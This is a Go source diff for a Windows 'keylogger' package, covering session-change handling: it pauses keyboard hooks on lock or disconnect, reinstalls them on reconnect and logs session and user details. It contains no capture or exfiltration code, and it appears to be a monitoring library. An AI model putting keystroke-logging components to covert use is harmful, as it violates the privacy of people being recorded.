@@ -0,0 +1,204 @@
+package keylogger
+
+import (
+	"fmt"
+	"os/user"
+	"runtime"
+	"sync"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/windows"
+)
+
+var (
+	wtsapi32                         = windows.NewLazySystemDLL("wtsapi32.dll")
+	wtsRegisterSessionNotification   = wtsapi32.NewProc("WTSRegisterSessionNotification")
+	wtsUnRegisterSessionNotification = wtsapi32.NewProc("WTSUnRegisterSessionNotification")
+)
+
+/*
+	Session change notifications.
+	https://docs.microsoft.com/en-us/windows/win32/termserv/wm-wtssession-change
+*/
+const (
+	WM_WTSSESSION_CHANGE    = 0x02B1
+	WTS_CONSOLE_CONNECT     = 0x1
+	WTS_CONSOLE_DISCONNECT  = 0x2
+	WTS_REMOTE_CONNECT      = 0x3
+	WTS_REMOTE_DISCONNECT   = 0x4
+	WTS_SESSION_LOGON       = 0x5
+	WTS_SESSION_LOGOFF      = 0x6
+	WTS_SESSION_LOCK        = 0x7
+	WTS_SESSION_UNLOCK      = 0x8
+	NOTIFY_FOR_THIS_SESSION = 0
+	SM_REMOTESESSION        = 0x1000
+	sessionClass            = "KeyloggerSession"
+)
+
+/*
+	What the DiagSession markers say of session changes.
+*/
+var sessionChanges = map[WPARAM]string{
+	WTS_CONSOLE_CONNECT:    "connected to the console",
+	WTS_CONSOLE_DISCONNECT: "disconnected from the console",
+	WTS_REMOTE_CONNECT:     "connected remotely",
+	WTS_REMOTE_DISCONNECT:  "disconnected remotely",
+	WTS_SESSION_LOGON:      "logged on",
+	WTS_SESSION_LOGOFF:     "logging off",
+}
+
+/*
+	A Logger watching its session, and the stop channel of its poller.
+*/
+type sessionWatch struct {
+	l    *Logger
+	stop <-chan struct{}
+}
+
+var (
+	sessionClassOnce sync.Once
+	sessionClassErr  error
+	sessionsMu       sync.Mutex
+	sessions         = make(map[HWND]sessionWatch)
+)
+
+/*
+	Describes the session this process runs in: its id, user and whether
+	it is the console or a remote desktop session.
+*/
+func describeSession() string {
+	var id uint32
+	windows.ProcessIdToSessionId(windows.GetCurrentProcessId(), &id)
+	name := "unknown user"
+	if u, err := user.Current(); err == nil {
+		name = u.Username
+	}
+	kind := "console"
+	if GetSystemMetrics(SM_REMOTESESSION) != 0 {
+		kind = "remote desktop"
+	}
+	return fmt.Sprintf("session %d of %s (%s)", id, name, kind)
+}
+
+/*
+	Told by session change notifications to a message-only window of its
+	own thread, pauses the hooks while the workstation is locked, with
+	PauseWhenLocked, or, with WatchSessions, while the session is
+	disconnected, marking each change with a DiagSession event.
+*/
+func (l *Logger) watchSession(stop <-chan struct{}) {
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+	hwnd, err := createSessionWindow()
+	if err == nil {
+		if ret, _, e := wtsRegisterSessionNotification.Call(uintptr(hwnd), NOTIFY_FOR_THIS_SESSION); ret == 0 {
+			destroyWindow.Call(uintptr(hwnd))
+			err = fmt.Errorf("WTSRegisterSessionNotification: %v", e)
+		}
+	}
+	if err != nil {
+		l.emitSide(DiagnosticEvent{Kind: DiagSessionWatchFailed, Message: err.Error(), Time: time.Now()}, stop)
+		return
+	}
+	sessionsMu.Lock()
+	sessions[hwnd] = sessionWatch{l: l, stop: stop}
+	sessionsMu.Unlock()
+	defer func() {
+		sessionsMu.Lock()
+		delete(sessions, hwnd)
+		sessionsMu.Unlock()
+	}()
+	go func() {
+		<-stop
+		postMessageW.Call(uintptr(hwnd), WM_CLOSE, 0, 0)
+	}()
+	if l.WatchSessions {
+		l.emitSide(DiagnosticEvent{Kind: DiagSession, Message: "capturing in " + describeSession(), Time: time.Now()}, stop)
+	}
+	var msg MSG
+	for GetMessage(&msg, 0, 0, 0) > 0 {
+		dispatchMessageW.Call(uintptr(unsafe.Pointer(&msg)))
+	}
+}
+
+func createSessionWindow() (HWND, error) {
+	var instance windows.Handle
+	if err := windows.GetModuleHandleEx(0, nil, &instance); err != nil {
+		return 0, err
+	}
+	class, _ := windows.UTF16PtrFromString(sessionClass)
+	sessionClassOnce.Do(func() {
+		wc := wndClassEx{
+			wndProc:   windows.NewCallback(sessionProc),
+			instance:  instance,
+			className: class,
+		}
+		wc.size = uint32(unsafe.Sizeof(wc))
+		if ret, _, err := registerClassExW.Call(uintptr(unsafe.Pointer(&wc))); ret == 0 {
+			sessionClassErr = fmt.Errorf("RegisterClassEx: %v", err)
+		}
+	})
+	if sessionClassErr != nil {
+		return 0, sessionClassErr
+	}
+	ret, _, err := createWindowExW.Call(0, uintptr(unsafe.Pointer(class)), 0, 0, 0, 0, 0, 0, HWND_MESSAGE, 0, uintptr(instance), 0)
+	if ret == 0 {
+		return 0, fmt.Errorf("CreateWindowEx: %v", err)
+	}
+	return HWND(ret), nil
+}
+
+func sessionProc(hwnd HWND, msg uint32, wparam WPARAM, lparam LPARAM) LRESULT {
+	switch msg {
+	case WM_WTSSESSION_CHANGE:
+		sessionsMu.Lock()
+		w, ok := sessions[hwnd]
+		sessionsMu.Unlock()
+		if ok {
+			w.l.sessionChanged(wparam, w.stop)
+		}
+		return 0
+	case WM_CLOSE:
+		wtsUnRegisterSessionNotification.Call(uintptr(hwnd))
+		destroyWindow.Call(uintptr(hwnd))
+		return 0
+	case WM_DESTROY:
+		postQuitMessage.Call(0)
+		return 0
+	}
+	ret, _, _ := defWindowProcW.Call(uintptr(hwnd), uintptr(msg), uintptr(wparam), uintptr(lparam))
+	return LRESULT(ret)
+}
+
+/*
+	Handles a WM_WTSSESSION_CHANGE of the Logger's session. A session that
+	reconnects gets hooks installed anew, which also brings back hooks
+	Windows dropped while it was disconnected.
+*/
+func (l *Logger) sessionChanged(change WPARAM, stop <-chan struct{}) {
+	switch change {
+	case WTS_SESSION_LOCK, WTS_SESSION_UNLOCK:
+		if l.PauseWhenLocked {
+			if err := l.pause(pauseLocked, change == WTS_SESSION_LOCK); err != nil {
+				l.emitSide(auditFailed(err, time.Now()), stop)
+			}
+		}
+		return
+	}
+	what, ok := sessionChanges[change]
+	if !l.WatchSessions || !ok {
+		return
+	}
+	l.emitSide(DiagnosticEvent{Kind: DiagSession, Message: describeSession() + " " + what, Time: time.Now()}, stop)
+	var err error
+	switch change {
+	case WTS_CONSOLE_DISCONNECT, WTS_REMOTE_DISCONNECT:
+		err = l.pause(pauseDisconnected, true)
+	case WTS_CONSOLE_CONNECT, WTS_REMOTE_CONNECT:
+		err = l.pause(pauseDisconnected, false)
+	}
+	if err != nil {
+		l.emitSide(auditFailed(err, time.Now()), stop)
+	}
+}